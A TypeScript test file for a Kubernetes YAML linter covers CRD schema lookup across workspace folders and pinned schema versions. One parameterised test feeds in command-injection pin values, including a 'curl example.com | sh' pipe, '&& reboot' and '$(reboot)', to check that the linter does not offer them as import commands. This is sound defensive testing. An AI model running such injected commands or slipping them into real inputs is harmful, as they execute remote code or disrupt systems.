// Findings that depend on the schemas of the workspace: its CRDs and pins.

import { describe, expect, test } from 'vitest';
import { yaml } from '../fixture.ts';
import { diagnose } from './diagnostics.ts';
import { findingsIn, fixture } from './fixture.ts';

describe('CRDs of the workspace', () => {
  const crd = (field: string) => `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: ships.example.com
spec:
  group: example.com
  names: { kind: Ship, plural: ships, singular: ship, listKind: ShipList }
  scope: Namespaced
  versions:
    - name: v1
      served: true
      storage: true
      schema:
        openAPIV3Schema: { type: object, properties: { spec: { type: object, properties: { ${field}: { type: string } } } } }
`;
  const ship = yaml`
    apiVersion: example.com/v1
    kind: Ship
    metadata:
      name: a
    spec:
      mast: oak
  `;

  test('apply at once, from a List and from a file with other documents too', () => {
    expect(
      findingsIn(yaml`
        # file: a.yaml
        $0${ship}# file: crd.yaml
        ${crd('mast')}`),
    ).toEqual([]);
    expect(
      findingsIn(yaml`
        # file: a.yaml
        $0${ship}# file: crd.yaml
        ${crd('keel')}`),
    ).toEqual(['6 error schema/unknown-field']);
    expect(
      findingsIn(yaml`
        # file: a.yaml
        $0${ship}---
        ${crd('keel')}`),
    ).toEqual(['6 error schema/unknown-field']);
    const list = `apiVersion: v1\nkind: List\nitems:\n  - ${crd('keel').trim().replaceAll('\n', '\n    ')}\n`;
    expect(
      findingsIn(yaml`
        # file: a.yaml
        $0${ship}# file: list.yaml
        ${list}
      `),
    ).toEqual(['6 error schema/unknown-field']);
  });

  test('the nearest copy is used, and differing copies are reported', () => {
    const two = yaml`
      # file: x/crd.yaml
      ${crd('keel')}# file: y/crd.yaml
      ${crd('mast')}`;
    expect(
      findingsIn(yaml`
        # file: y/z/a.yaml
        $0${ship}${two}`),
    ).toEqual([]);
    expect(
      findingsIn(yaml`
        # file: x/a.yaml
        $0${ship}${two}`),
    ).toEqual(['6 error schema/unknown-field']);
    expect(findingsIn(two)).toEqual(['4 info info/crd-copies']);
    expect(
      findingsIn(yaml`
        # file: x/crd.yaml
        ${crd('keel')}# file: y/crd.yaml
        # same
        ${crd('keel')}`),
    ).toEqual([]);
  });

  test('CRDs of test data, vendored code and charts apply in their own folders, and elsewhere only if there is no other schema', () => {
    for (const folder of ['chart/templates', 'vendor/x', 'pkg/testdata', 'test/e2e']) {
      const aside = yaml`
        # file: ${folder}/crd.yaml
        ${crd('keel')}`;
      expect(
        findingsIn(yaml`
          # file: z/a.yaml
          $0${ship}${aside}`),
      ).toEqual(['6 error schema/unknown-field']);
      const both = yaml`
        ${aside}# file: some/deep/folder/crd.yaml
        ${crd('mast')}`;
      expect(
        findingsIn(yaml`
          # file: z/a.yaml
          $0${ship}${both}`),
      ).toEqual([]);
      expect(findingsIn(`$0${both}`)).toEqual([]);
      if (folder === 'chart/templates') continue;
      expect(
        findingsIn(yaml`
          # file: ${folder}/a.yaml
          $0${ship}${both}`),
      ).toEqual(['6 error schema/unknown-field']);
    }
    const template = yaml`
      apiVersion: kustomize.toolkit.fluxcd.io/v1
      kind: Kustomization
      metadata:
        name: a
      spec: {}
    `;
    const old = crd('mast').replaceAll('Ship', 'Kustomization').replaceAll('ships', 'kustomizations');
    const flux = yaml`
      # file: pkg/testdata/one/crd.yaml
      ${old.replaceAll('example.com', 'kustomize.toolkit.fluxcd.io')}`;
    expect(
      findingsIn(yaml`
        # file: pkg/testdata/two/a.yaml
        $0${template}${flux}`),
    ).toHaveLength(3);
    expect(
      findingsIn(yaml`
        # file: pkg/testdata/one/a.yaml
        $0${template}${flux}`),
    ).toEqual([]);
  });

  test('editing a CRD changes the findings, and removing it clears them', () => {
    const { workspace } = fixture(yaml`
      # file: a.yaml
      ${ship}# file: crd.yaml
      ${crd('mast')}`);
    expect(diagnose(workspace, 'a.yaml')).toEqual([]);
    workspace.put('crd.yaml', crd('keel'));
    expect(diagnose(workspace, 'a.yaml')).toHaveLength(1);
    workspace.remove('crd.yaml');
    expect(diagnose(workspace, 'a.yaml')).toEqual([]);
  });
});

describe('pins', () => {
  test('apply only in their folder', () => {
    const template = yaml`
      apiVersion: kustomize.toolkit.fluxcd.io/v1
      kind: Kustomization
      metadata:
        name: a
      spec: {}
    `;
    const { workspace } = fixture(
      yaml`
        # file: old/a.yaml
        ${template}
        # file: new/a.yaml
        ${template}
        # file: .capstan.yaml
        folders:
          old: { schemas: [flux@2.10] }
      `,
    );
    const origins = ['old/a.yaml', 'new/a.yaml'].map((path) => {
      const kind = workspace.schemas
        .storeFor(path)
        .lookup({ group: 'kustomize.toolkit.fluxcd.io', version: 'v1', kind: 'Kustomization' });
      return `${kind?.from} ${kind?.origin.split('.', 2).join('.')}`;
    });
    expect(origins).toEqual(['pinned flux 2.10', 'bundled flux 2.9']);
  });

  test.each([
    ['flux@99.9', 'or “capstan schemas add flux@99.9” to import it'],
    ['x; curl example.com | sh #', undefined],
    ['flux@1 && reboot', undefined],
    ['$(reboot)@1', undefined],
    ['-toolexec=a@1', undefined],
  ])(
    'the command that imports an unknown one is offered for %j only if a shell reads it as one word',
    (pin, command) => {
      const { workspace } = fixture(`# file: .capstan.yaml\nfolders:\n  a: { schemas: [${JSON.stringify(pin)}] }\n`);
      const [problem, ...others] = diagnose(workspace, '.capstan.yaml');
      expect(others).toEqual([]);
      expect(problem!.message).toContain('is unknown');
      if (command === undefined) expect(problem!.message).not.toContain('schemas add');
      else expect(problem!.message).toContain(command);
    },
  );
});
